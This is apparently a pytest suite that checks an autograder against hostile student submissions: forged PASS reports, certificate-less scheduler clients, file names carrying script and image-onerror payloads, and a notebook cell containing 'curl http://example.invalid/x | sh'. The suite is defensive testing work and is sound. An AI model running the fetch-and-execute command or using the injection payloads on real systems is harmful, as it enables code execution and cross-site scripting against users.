"""Submissions aimed at the grader itself, written as a student would, and what the teacher sees: a
forged PASS report, a client without the cluster's certificate, file names that are Markdown or
HTML, notebooks whose cells are shell or files, a machine with no sandbox, a secret seed that never
shows on a command line, a submission that stops its Dask worker, a task's folder left behind.
Judged on one layer, a class of one to four, so each takes seconds."""

import gc
import json
import operator
import os
import re
import shutil
import signal
import socket
import ssl
import stat
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pandas as pd
import pytest

from reference import cli
from reference.grade import task
from reference.grade.gradebook import gradebook_row, write_class_reports
from reference.grade.run import GradeOptions, GraderClock, dask_client, judge_options, scheduler_security
from reference.grade.submissions import discover, load_submission, notebook_code
from tests.impls.hostile import DOUBLED_DW
from tests.test_grade import book_of, notebook

REEXPORT = "from scratch_cnn import *  # noqa\n"
DENSE = ["--no-curves", "--parallel", "1", "--quick", "--layers", "Dense"]
KEY = bytes(range(32))  # the stamp key of the tests that replay one genuine report


@pytest.fixture
def grade_cli():
    return cli.main


def submission(folder, name, source):
    path = Path(folder) / name
    path.write_text(source)
    return load_submission(path)


# --- (1) a forged report is no result ----------------------------------------------------------------


@pytest.fixture(scope="module")
def genuine(tmp_path_factory):
    """One real judgement of mallory.py (a doubled dW: Dense FAIL) under a fixed key; its report kept."""
    root = tmp_path_factory.mktemp("genuine")
    saved = root / "report"
    real = task.run_judge

    def keep(cmd, fd, cwd, timeout):
        code, text = real(cmd, fd, cwd, timeout)
        shutil.copytree(cmd[cmd.index("--out") + 1], saved)
        return code, text

    mp = pytest.MonkeyPatch()
    mp.setattr(task, "new_key", lambda: KEY)
    mp.setattr(task, "run_judge", keep)
    try:
        sub = submission(root, "mallory.py", DOUBLED_DW)
        result = task.judge_submission(sub.spec(), DENSE, 300)
    finally:
        mp.undo()
    return sub, result, saved


def replaying(saved, tamper, exit_code):
    """A stand-in for the judge's process: it leaves the genuine report in --out, then ``tamper`` does
    what the submission's daemon (or a blocked swap) would, and it ends with ``exit_code``."""

    def fake(cmd, fd, cwd, timeout):
        os.read(fd, 1 << 16)
        out = Path(cmd[cmd.index("--out") + 1])
        shutil.copytree(saved, out)
        tamper(out)
        return exit_code, "judging mallory.py\n"

    return fake


def pass_over_verdicts(out):
    """A daemon the submission left behind rewrites its verdicts after the judge exited."""
    path = out / "verdicts.csv"
    path.write_text(path.read_text().replace("FAIL", "PASS"))


def pass_in_run_json(out):
    """...or rewrites run.json to say PASS and exit 0 (without the key: the signature is the judge's)."""
    run = json.loads((out / "run.json").read_text())
    run.update(verdict="PASS", exit_code=0)
    (out / "run.json").write_text(json.dumps(run))
    pass_over_verdicts(out)


def planted_after_a_blocked_swap(out):
    """...or the judge could not swap its report in (exit 2) and a forged one stands in --out."""
    (out / "run.json").write_text(json.dumps({"verdict": "PASS", "exit_code": 2, "reports": {}}))
    pass_over_verdicts(out)


def an_extra_file(out):
    (out / "extra.csv").write_text("layer,case,status\nDense,x,pass\n")


FORGERIES = {
    "verdicts rewritten after the judge exited": (pass_over_verdicts, 1, "verdicts.csv differs"),
    "run.json rewritten to PASS": (pass_in_run_json, 0, "signature does not match"),
    "a report planted where the swap was blocked": (planted_after_a_blocked_swap, 2, "carries no signature"),
    "a file added": (an_extra_file, 1, "differ from what the judge stamped"),
    "the judge's report, the process's exit code another": (lambda out: None, 0, "exit code"),
}


def test_the_genuine_report_is_the_result(genuine):
    _, result, _ = genuine
    assert result["stamp"] == "verified" and result["exit_code"] == 1 and result["run_id"]
    assert b"Dense,FAIL" in result["files"]["verdicts.csv"].replace(b'"', b"")


@pytest.mark.parametrize("forgery", list(FORGERIES))
def test_a_forged_report_gets_no_score_and_the_gradebook_says_why(genuine, forgery, tmp_path, monkeypatch):
    sub, _, saved = genuine
    tamper, exit_code, why = FORGERIES[forgery]
    monkeypatch.setattr(task, "new_key", lambda: KEY)
    monkeypatch.setattr(task, "run_judge", replaying(saved, tamper, exit_code))
    result = task.judge_submission(sub.spec(), DENSE, 300)
    assert result["files"] == {} and why in result["stamp"]
    assert result["output"].startswith("error: the judge's report is no result")
    write_class_reports(tmp_path, [gradebook_row(sub, result, {"Dense": 1.0})], "one", ("Dense",))
    row = pd.read_csv(tmp_path / "gradebook.csv").iloc[0]
    assert row["Dense"] == "ERROR" and row["score"] == 0
    assert "no result" in row["first_diagnosis"] and why in row["first_diagnosis"] and why in row["stamp"]


def test_another_students_genuine_report_is_no_result_for_this_one(genuine, tmp_path, monkeypatch):
    _, _, saved = genuine
    copier = submission(tmp_path, "copier.py", REEXPORT)  # hands in mallory's report as its own
    monkeypatch.setattr(task, "new_key", lambda: KEY)
    monkeypatch.setattr(task, "run_judge", replaying(saved, lambda out: None, 1))
    result = task.judge_submission(copier.spec(), DENSE, 300)
    assert result["files"] == {} and "not this submission's entry" in result["stamp"]


# --- (2) the embedded scheduler speaks TLS to its own certificate holders only -------------------------


def test_a_client_without_the_clusters_certificate_cannot_reach_the_embedded_scheduler():
    from distributed import Client
    from distributed.security import Security

    security = scheduler_security(GradeOptions(Path("class"), scheduler=None))
    with dask_client(None, 1, security) as client:
        address = client.scheduler.address
        assert address.startswith("tls://127.0.0.1:")
        assert client.submit(operator.add, 1, 2, pure=False).result() == 3  # the grader itself gets through
        # what a submission's worker would try: no certificate, a certificate of its own, plain TCP
        for attempt in ({"address": address}, {"address": address, "security": Security.temporary()},
                        {"address": address.replace("tls://", "tcp://")}):  # fmt: skip
            with pytest.raises(Exception):  # noqa: B017 (refused in whatever way Dask reports it)
                Client(timeout=5, set_as_default=False, **attempt).close()
            # NOTE: the refused client is half-built, held in cycles by the traceback: collected now,
            # not by a collection that happens to run inside the next Client's start (its __del__ then
            # waits on the loop runner that start is holding: a deadlock seen in CI)
            gc.collect()
        # Dask's plain-HTTP pages (workers, logs, call stacks) are not served
        with pytest.raises(urllib.error.HTTPError, match="404"):
            urllib.request.urlopen(f"http://127.0.0.1:{client.cluster.scheduler.http_server.port}/info/main/workers.html",
                                   timeout=5)  # fmt: skip
        # and a TLS client that trusts anything but holds no certificate: the scheduler ends the handshake
        host, port = address[len("tls://") :].rsplit(":", 1)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with socket.create_connection((host, int(port)), timeout=5) as raw:
            # NOTE: the refusal is the alert "certificate required", or, when the scheduler closes the
            # socket before the alert is read (seen on a loaded machine), an EOF in the handshake:
            # either way not one byte of the scheduler's protocol reaches the client
            with pytest.raises(ssl.SSLError, match="(?i)certificate required|EOF occurred in violation of protocol"):
                with context.wrap_socket(raw) as tls:
                    tls.sendall(b"\0" * 16)
                    tls.recv(1)  # TLS 1.3: the scheduler's refusal comes with the first read


def test_a_scheduler_without_tls_is_refused_and_says_why():
    def security(address, **extra):
        return scheduler_security(GradeOptions(Path("class"), scheduler=address, **extra))

    with pytest.raises(ValueError, match=r"^--scheduler tcp://10\.0\.0\.5:8786: .*runs code.*--insecure-scheduler"):
        security("tcp://10.0.0.5:8786")
    with pytest.raises(ValueError, match="needs --tls-ca-file, --tls-cert, --tls-key"):
        security("tls://10.0.0.5:8786")
    with pytest.raises(ValueError, match="only tls://"):
        security("ucx://10.0.0.5:8786")
    assert security("tcp://10.0.0.5:8786", insecure_scheduler=True) is None


# --- (3) names: unique, safe ids; every name escaped -------------------------------------------------

EVIL_NAME = "evil | 9 | PASS |\n| `x` | <script>alert(1)<script>.py"
EVIL_SOURCE = 'raise ImportError("| zed | 9 | PASS |\\n<img src=x onerror=alert(1)> [win](javascript:x)")\n'


def test_names_give_unique_safe_ids_and_render_as_text(tmp_path, grade_cli):
    klass = tmp_path / "class"
    klass.mkdir()
    (klass / "s1.py").write_text(REEXPORT)
    (klass / "s1").mkdir()
    (klass / "s1" / "layers.py").write_text(REEXPORT)
    (klass / "s1~2.py").write_text(REEXPORT)
    (klass / EVIL_NAME).write_text(EVIL_SOURCE)
    out = tmp_path / "grades"
    assert grade_cli(["grade", str(klass), "--out", str(out), "--layers", "ReLU", "--workers", "2"]) == 0
    book = pd.read_csv(out / "gradebook.csv", dtype={"id": str})
    ids = book["id"].tolist()
    assert len(set(ids)) == 4 and all(re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", i) for i in ids)
    by_name = dict(zip(book["name"], book["id"], strict=True))
    assert by_name["s1"] == "s1" and by_name["s1~2.py"] == "s1-2" and by_name["s1.py"] == "s1-3"
    assert by_name[EVIL_NAME].startswith("evil-9-PASS")  # the name as the teacher wrote it, beside its id
    assert set(ids) <= {p.name for p in out.iterdir() if p.is_dir()}
    assert (book.set_index("id").loc[["s1", "s1-2", "s1-3"], "ReLU"] == "PASS").all()
    summary = (out / "summary.md").read_text()
    assert "<script>" not in summary and "<img src=x" not in summary and "[win](" not in summary
    lines = summary.split("## Gradebook", 1)[1].split("##", 1)[0].strip().splitlines()
    assert len(lines) == 2 + 4  # a header, its rule and one row per submission: no row smuggled in
    cells = {len(re.split(r"(?<!\\)\|", line)) for line in lines}
    assert len(cells) == 1  # every row as many cells as the header
    page = (out / "index.html").read_text()
    assert "<script>" not in page and "<img src=x" not in page and "&lt;script&gt;" in page


# --- (4) notebook cell magics -------------------------------------------------------------------------


def test_a_notebooks_cell_magics_are_dropped_whole_and_listed(tmp_path):
    cells = ["import numpy as np\n",
             "%%bash\necho pwned > ~/pwned\ncurl http://example.invalid/x | sh\n",
             "%%writefile helper.py\nprint('from the writefile cell')\n",
             "\n  %%capture\nx = 1\n",
             "from scratch_cnn import Dense, ReLU  # noqa\n"]  # fmt: skip
    (tmp_path / "nb.ipynb").write_text(notebook(*cells))
    (sub,) = discover(tmp_path)
    code = sub.files[sub.entry].decode()
    for body in ("echo pwned", "curl", "from the writefile cell", "x = 1", "%%"):
        assert body not in code
    assert "import numpy as np" in code and "from scratch_cnn import Dense, ReLU" in code
    compile(code, "nb.py", "exec")  # what is left is Python
    assert sub.dropped == ["cell 2: %%bash", "cell 2: echo pwned > ~/pwned", "cell 2: curl http://example.invalid/x | sh",
                           "cell 3: %%writefile helper.py", "cell 3: print('from the writefile cell')",
                           "cell 4: %%capture", "cell 4: x = 1"]  # fmt: skip
    same, _ = notebook_code(notebook(*cells).encode())
    assert same.count("\n") == code.count("\n")  # line numbers hold: each dropped line is a blank one


# --- (5) no sandbox tier: refused unless --unsandboxed; (6) the secret seed -----------------------------

SEED = 987654321


def test_grade_refuses_without_a_sandbox_tier_unless_told_and_a_secret_seed_stays_secret(tmp_path, grade_cli,
                                                                                         monkeypatch, capsys):  # fmt: skip
    import reference.sandbox.client as sandbox_client

    klass = tmp_path / "class"
    klass.mkdir()
    (klass / "alice.py").write_text(REEXPORT)
    out = tmp_path / "grades"
    monkeypatch.setattr(sandbox_client, "resolve_sandbox", lambda choice: "process")
    assert grade_cli(["grade", str(klass), "--out", str(out), "--layers", "ReLU", "--workers", "1"]) == 2
    err = capsys.readouterr().err
    assert "no sandbox tier" in err and "bubblewrap" in err and "Landlock" in err and "5.13" in err
    assert "pass --unsandboxed" in err and not (out / "gradebook.csv").exists()
    assert grade_cli(["grade", str(klass), "--out", str(out), "--sandbox", "process", "--scheduler", "tls://h:1"]) == 2
    assert "--sandbox process runs submissions with no sandbox" in capsys.readouterr().err  # on any cluster
    seed_file = tmp_path / "seed.txt"
    seed_file.write_text(f"{SEED}\n")
    assert grade_cli(["grade", str(klass), "--out", str(out), "--layers", "ReLU", "--workers", "1", "--unsandboxed",
                      "--secret-seed-file", str(seed_file)]) == 0  # fmt: skip
    assert "--unsandboxed" in capsys.readouterr().err
    row = book_of(out).loc["alice"]
    assert row["ReLU"] != "ERROR" and bool(row["secret_seed"]) and row["stamp"] == "verified"
    assert json.loads((out / "alice" / "run.json").read_text()).get("secret_cases", 0) > 0  # the judge got it
    for path in out.rglob("*"):  # that one was used is recorded; its value nowhere
        assert not path.is_file() or str(SEED).encode() not in path.read_bytes(), path


def test_the_secret_seed_reaches_the_judge_through_a_pipe_never_its_argv(tmp_path, monkeypatch):
    seen = {}

    def judge(cmd, fd, cwd, timeout):
        seen.update(cmd=cmd, fd=fd, payload=json.loads(os.read(fd, 1 << 16)), cwd=Path(cwd))
        entry = Path(cmd[cmd.index("--impl") + 1])
        seen["modes"] = {name: stat.S_IMODE(p.stat().st_mode) for name, p in
                         (("root", entry.parent.parent), ("submission", entry.parent), ("entry", entry),
                          ("out parent", Path(cwd)))}  # fmt: skip
        seen["folder"] = entry.parent.name
        return 2, "error: stand-in judge\n"

    monkeypatch.setattr(task, "run_judge", judge)
    sub = submission(tmp_path, "alice.py", REEXPORT)
    args = GradeOptions(Path("class"), full=False, layers="ReLU", secret_seed=SEED)  # sandbox: its defaults
    options = judge_options(args)
    assert "--require-sandbox" in options
    result = task.judge_submission(sub.spec(), options, 60, SEED)
    assert not any(str(SEED) in part for part in seen["cmd"])  # argv: readable by every process here
    assert seen["cmd"][seen["cmd"].index("--secrets-fd") + 1] == str(seen["fd"])
    assert seen["payload"]["secret_seed"] == SEED and len(bytes.fromhex(seen["payload"]["stamp_key"])) == 32
    assert seen["modes"] == {"root": 0o711, "submission": 0o755, "entry": 0o644, "out parent": 0o700}
    assert re.fullmatch(r"[0-9a-f]{32}", seen["folder"])  # not a name another worker could guess
    assert result["secret_seed"] is True  # that one was used: its value stays in the task
    assert result["files"] == {} and result["stamp"].startswith("no run.json")
    assert not seen["cwd"].exists()  # the private copy is gone with the task


# --- a task's folder left behind by a killed task -------------------------------------------------------


def test_folders_left_by_killed_tasks_are_removed_and_live_ones_kept(tmp_path, monkeypatch):
    import subprocess
    import sys

    monkeypatch.setattr(task.tempfile, "tempdir", str(tmp_path))
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    dead = tmp_path / f"{task.WORK_PREFIX}dead"
    dead.mkdir()
    (dead / task.OWNER).write_text(f"{gone.pid} 1\n")
    reused = tmp_path / f"{task.WORK_PREFIX}reused"  # our pid, another start time: a reused pid
    reused.mkdir()
    (reused / task.OWNER).write_text(f"{os.getpid()} 1\n")
    live = task.make_workspace({"a.py": b"x = 1\n"}).root
    fresh = tmp_path / f"{task.WORK_PREFIX}fresh"  # being made this very moment: no owner file yet
    fresh.mkdir()
    other = tmp_path / "someone-else"
    other.mkdir()
    assert sorted(task.clean_stale()) == sorted([dead, reused])
    assert live.is_dir() and fresh.is_dir() and other.is_dir()


# --- a submission that stops its Dask worker -----------------------------------------------------------


def test_the_graders_clock_runs_from_each_tasks_start_on_its_worker():
    clock = GraderClock(0.0)
    for key, worker in (("late", "w1"), ("moved", "w1"), ("done", "w2")):
        clock.on_event((0.0, {"key": key, "worker": worker}))
    time.sleep(0.01)
    assert clock.overdue(["queued"], lambda: 1 / 0) == []  # never started: no clock, Dask not even asked
    late = clock.overdue(["late", "moved", "queued"], lambda: {"w1": ("late",), "w2": ("moved",)})
    assert [(key, worker) for key, worker, _ in late] == [("late", "w1")]
    assert "moved" not in clock.started  # its worker was lost: its next start restarts its clock


def judge_processes(marker: bytes):
    """(pid, pid of its grading task's process) of every judge: a ``reference judge`` process whose
    argv holds ``marker`` (its parent is the task's process), or a judge forked from a judge template
    (reference.grade.template: its argv is the template's, so in a class of one it is that one's judge;
    the task's process is the template's parent)."""
    table = {}
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            argv = (proc / "cmdline").read_bytes()
            ppid = int((proc / "stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            continue
        table[int(proc.name)] = (argv, ppid)
    found = []
    template = b"reference.grade.template"
    for pid, (argv, ppid) in table.items():
        if b"reference\0judge\0" in argv and marker in argv:
            found.append((pid, ppid))
        elif template in argv and ppid in table and template in table[ppid][0]:
            found.append((pid, table[ppid][1]))
    return found


def alive(pid):
    try:
        return (Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]) not in ("Z", "X")
    except OSError:
        return False


def test_a_submission_that_stops_its_worker_is_stopped_by_the_graders_clock(tmp_path, grade_cli, capsys):
    klass = tmp_path / "class"
    klass.mkdir()
    # slow to import: its judge is still running when its Dask worker is stopped
    (klass / "mallory.py").write_text("import time\ntime.sleep(60)\nfrom scratch_cnn import *  # noqa\n")
    stopped = {}

    def stop_the_worker():
        """What a submission in the unsandboxed tier does: SIGSTOP the process running its grading
        task, where the task's own timeout lives (played by the test: in the sandboxed tiers the
        submission cannot see that process, let alone signal it)."""
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not stopped:
            for judge, worker in judge_processes(b"mallory.py"):
                os.kill(worker, signal.SIGSTOP)
                stopped.update(judge=judge, worker=worker)
            time.sleep(0.05)

    thread = threading.Thread(target=stop_the_worker, daemon=True)
    thread.start()
    start = time.monotonic()
    try:
        code = grade_cli(["grade", str(klass), "--out", str(tmp_path / "grades"), "--layers", "ReLU", "--workers", "1",
                          "--submission-timeout", "3", "--timeout-grace", "1"])  # fmt: skip
        took = time.monotonic() - start
        thread.join(5)
        assert stopped, "the judge never started"
        assert code == 0 and took < 90
        row = book_of(tmp_path / "grades").loc["mallory"]
        assert row["ReLU"] == "ERROR" and row["exit_code"] == -1 and "grader stopped" in row["first_diagnosis"]
        assert "stopped after" in capsys.readouterr().out
        deadline = time.monotonic() + 20
        while (alive(stopped["worker"]) or alive(stopped["judge"])) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not alive(stopped["worker"]) and not alive(stopped["judge"])  # nothing of it left running
    finally:
        for pid in (stopped.get("worker"), stopped.get("judge")):
            if pid and alive(pid):
                os.kill(pid, signal.SIGKILL)
